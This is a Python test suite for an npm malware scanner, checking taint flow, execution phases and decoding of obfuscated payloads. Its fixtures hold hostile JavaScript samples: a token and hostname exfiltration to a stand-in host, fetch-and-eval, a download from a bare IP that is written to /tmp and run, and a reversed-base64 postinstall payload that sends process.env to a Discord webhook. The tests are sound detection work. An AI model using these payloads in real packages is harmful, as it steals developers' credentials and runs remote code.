"""JavaScript scanner internals that the fast paths must not change: scopes and phases, taint through
aliases and names, in files large enough that most of the code is skipped by the word prefilter."""

from __future__ import annotations

from chainwatch.packages import signals as sg
from chainwatch.packages.jsscan import JsScanner
from tests.packages.helpers import facts_of, npm_tgz, verdict

# unrelated code that looks like a bundle: many functions, calls and strings, no sources or sinks
FILLER = "\n".join(
    f"function helper{i}(a, b) {{ var x{i} = a.map(function (v) {{ return v * {i} + b.length; }}); "
    f"return x{i}.join('-{i}-') + String(b).slice({i % 7}); }}"
    for i in range(3000)
)


def _scan(code: str, phase: str = sg.IMPORT) -> list[sg.Signal]:
    return JsScanner("index.js", code.encode(), phase).scan()


def test_aliased_sources_reach_an_aliased_sink_across_a_large_file() -> None:
    code = (
        "const o = require('os');\nconst h = require('https');\n" + FILLER + "\n"
        "const who = o.hostname();\n"
        "const tok = process.env.NPM_TOKEN;\n"
        "const body = JSON.stringify({who: who, t: tok});\n"
        + FILLER.replace("helper", "other") + "\n"
        "h.request({host: 'collect.example.net', path: '/c?d=' + body});\n"
    )
    flows = [s for s in _scan(code) if s.kind == sg.EXFIL_FLOW]
    assert flows, "hostname and token flowing to https.request must be a flow"
    assert {"sysinfo", "env-secret"} <= set(flows[0].detail["sources"])
    assert flows[0].phase == sg.IMPORT


def test_filler_alone_has_no_flow_and_plain_values_carry_no_labels() -> None:
    code = "const h = require('https');\n" + FILLER + "\nconst n = 3 * 7;\nh.get('https://example.org/?n=' + n);\n"
    signals = _scan(code)
    assert not [s for s in signals if s.kind == sg.EXFIL_FLOW]
    assert [s for s in signals if s.kind == sg.NETWORK], "the request itself is still seen"


def test_function_bodies_run_later_but_invoked_in_place_functions_run_now() -> None:
    code = (
        "const cp = require('child_process');\n"
        "function later() { cp.exec('echo later'); }\n"
        "(function () { cp.exec('echo now'); })();\n"
        "const arrow = () => { cp.exec('echo arrow'); };\n"
    )
    phases = {s.detail.get("command"): s.phase for s in _scan(code) if s.kind == sg.PROCESS}
    assert phases == {"echo later": sg.RUNTIME, "echo now": sg.IMPORT, "echo arrow": sg.RUNTIME}


def test_fetch_and_eval_in_one_function_is_download_exec_in_its_own_scope_only() -> None:
    code = (
        "(async function () { const r = await fetch('https://x.example/p.js'); eval(await r.text()); })();\n"
        "function unrelated() { eval('1 + 1'); }\n"
    )
    kinds = [(s.kind, s.line) for s in _scan(code)]
    assert (sg.DOWNLOAD_EXEC, 1) in kinds
    assert not [k for k in kinds if k[0] == sg.DOWNLOAD_EXEC and k[1] == 2]


def test_named_functions_called_when_the_file_runs_and_callbacks_run_then_too() -> None:
    code = (
        "const cp = require('child_process');\n"
        "function step2() { cp.exec('echo step2'); }\n"
        "function step1() { step2(); }\n"
        "const viaVar = function () { cp.exec('echo var'); };\n"
        "function exported() { cp.exec('echo exported'); }\n"
        "module.exports = { exported };\n"
        "setTimeout(() => { cp.exec('echo callback'); }, 10);\n"
        "step1();\nviaVar();\n"
    )
    phases = {s.detail.get("command"): s.phase for s in _scan(code) if s.kind == sg.PROCESS}
    assert phases == {"echo step2": sg.IMPORT, "echo var": sg.IMPORT, "echo callback": sg.IMPORT,
                      "echo exported": sg.RUNTIME}


def test_a_download_written_and_run_from_callbacks_is_one_download_exec() -> None:
    code = (
        "const fs = require('fs'), request = require('request'), cp = require('child_process');\n"
        "function dl() {\n"
        "  request.get('http://95.164.17.24:1224/p', (e, r, body) => {\n"
        "    fs.writeFileSync('/tmp/p.py', body);\n"
        "    cp.exec('python3 /tmp/p.py');\n"
        "  });\n"
        "}\n"
        "dl();\n"
    )
    signals = _scan(code)
    assert {(s.kind, s.phase) for s in signals if s.kind in (sg.DOWNLOAD_EXEC, sg.WRITE_EXEC)} == {
        (sg.DOWNLOAD_EXEC, sg.IMPORT), (sg.WRITE_EXEC, sg.IMPORT)}
    later = _scan(code.replace("dl();\n", "module.exports = dl;\n"))
    assert not [s for s in later if s.kind == sg.DOWNLOAD_EXEC]  # only when called: not at import


def test_payload_stored_backwards_is_decoded_in_javascript() -> None:
    """``Buffer.from(s.split('').reverse().join(''), 'base64')``: the literal is the payload's base64 reversed;
    decoded, an environment dump to a Discord webhook runs at install. Before: clean of any finding on it."""
    import base64

    payload = (b"const https=require('https');https.request({hostname:'discord.com',path:'/api/webhooks/1/abc',"
               b"method:'POST'}).end(JSON.stringify(process.env));")
    blob = base64.b64encode(payload).decode()[::-1]
    js = f"const s='{blob}';\neval(Buffer.from(s.split('').reverse().join(''), 'base64').toString());\n"
    data = npm_tgz("qwerty-build-kit", "1.0.1", {"index.js": "module.exports={}\n", "install.js": js},
                   scripts={"postinstall": "node install.js"})
    result, findings = verdict(data)
    assert result == "malicious" and "package.hidden-code:critical" in findings
    assert any(s.detail.get("method") == "reversed+base64" for s in facts_of(data).signals)


def test_a_bundled_web_worker_source_runs_in_the_browser_sandbox() -> None:
    """A bundler inlines a web worker as base64 and loads it through a Blob URL (``new Worker(url)`` right
    after the literal; @auth0/auth0-spa-js): the decoded worker's ``fetch`` runs in the browser's worker
    sandbox, not hidden code on import. The same literal evaluated by Node is still hidden code."""
    import base64

    worker = (b"/* worker */\n!function(){addEventListener('message',async e=>{const r=await fetch(e.data.url,"
              b"{method:'POST',body:e.data.body});postMessage(await r.json())})}();\n")
    blob = base64.b64encode(worker).decode()
    loader = ("function dt(e){var n=atob(e),s=n.substring(n.indexOf('\\n',10)+1),"
              "a=new Blob([s],{type:'application/javascript'});return URL.createObjectURL(a)}\n"
              f"var mt,yt=(ht=\"{blob}\",function(e){{return mt=mt||dt(ht),new Worker(mt,e)}});\n"
              "export function refresh(d){const w=yt();w.postMessage(d);return w}\n")
    result, findings = verdict(npm_tgz("spa-auth-kit", "2.0.0", {"index.js": loader}))
    assert result == "clean", findings
    evaluated = f"const ht=\"{blob}\";\neval(Buffer.from(ht, 'base64').toString());\nmodule.exports={{}}\n"
    result, findings = verdict(npm_tgz("spa-auth-kit", "2.0.0", {"index.js": evaluated}))
    assert result != "clean" and "package.hidden-code:critical" in findings, findings
